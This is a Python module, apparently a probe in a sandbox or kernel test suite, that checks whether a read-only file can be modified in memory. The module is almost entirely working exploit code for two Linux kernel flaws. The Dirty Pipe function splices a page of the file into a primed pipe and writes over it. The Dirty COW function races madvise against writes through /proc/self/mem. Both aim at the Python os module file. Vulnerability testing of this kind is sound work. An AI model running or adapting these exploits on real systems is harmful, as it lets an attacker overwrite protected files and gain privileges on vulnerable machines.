"""Pages of read-only files written in memory (Dirty COW CVE-2016-5195, Dirty Pipe CVE-2022-0847)"""

import ctypes
import mmap
import os
import threading
import time

from tools import libc, stopped

FILE = os.__file__
MARK = b"MARKMARK"
SECONDS = 0.3


def attack():
    before = read()
    tried = {"by a pipe": stopped(by_a_pipe), "by a race": stopped(by_a_race)}
    return {name: "unchanged" if read() == before else "" for name in tried}


def later():
    return {"the file": "" if MARK in read() else "unchanged"}


def neighbour():
    return later()


def read():
    with open(FILE, "rb") as stream:
        return stream.read(4096)


def by_a_pipe():
    """Put a page of the file in a pipe whose buffers may be merged with the next write."""
    out, into = os.pipe()
    size = 65536
    os.write(into, bytes(size))
    os.read(out, size)
    descriptor = os.open(FILE, os.O_RDONLY)
    os.splice(descriptor, into, 1, offset_src=0)
    os.write(into, MARK)


def by_a_race():
    """Discard a private copy while it is being written."""
    descriptor = os.open(FILE, os.O_RDONLY)
    pages = mmap.mmap(descriptor, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
    address = next(mapped(os.path.basename(FILE)))
    end = time.monotonic() + SECONDS

    def throw_away():
        while time.monotonic() < end:
            libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)

    thread = threading.Thread(target=throw_away)
    thread.start()
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
        while time.monotonic() < end:
            os.pwrite(memory, MARK, address)
    finally:
        thread.join()
        pages.close()


def mapped(name):
    with open("/proc/self/maps") as stream:
        for line in stream:
            if line.rstrip().endswith(name):
                yield int(line.split("-")[0], 16)
